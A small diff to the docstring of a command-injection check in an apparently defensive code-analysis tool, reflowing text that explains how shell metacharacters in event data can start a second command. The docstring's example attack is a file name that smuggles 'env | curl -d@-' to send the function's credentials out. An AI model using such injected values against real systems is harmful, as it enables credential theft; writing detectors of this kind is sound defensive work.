@@ -10,8 +10,8 @@ from hauberk.study.study import Study
 def command_injection(place: Reached, study: Study) -> Verdict:
     """An event becomes part of a shell command.
 
-    A shell gives meaning to characters such as ``;``, ``$`` and ``|``. Text from an event that is put into a command line
-    can end the command and begin another one, which runs with everything that the function's role may do.
+    A shell gives meaning to characters such as ``;``, ``$`` and ``|``. Text from an event that is put into a command
+    line can end the command and begin another one, which runs with everything that the function's role may do.
 
     Attack: a file name of ``x; env | curl -d@- …`` sends the role's credentials to the attacker.
 
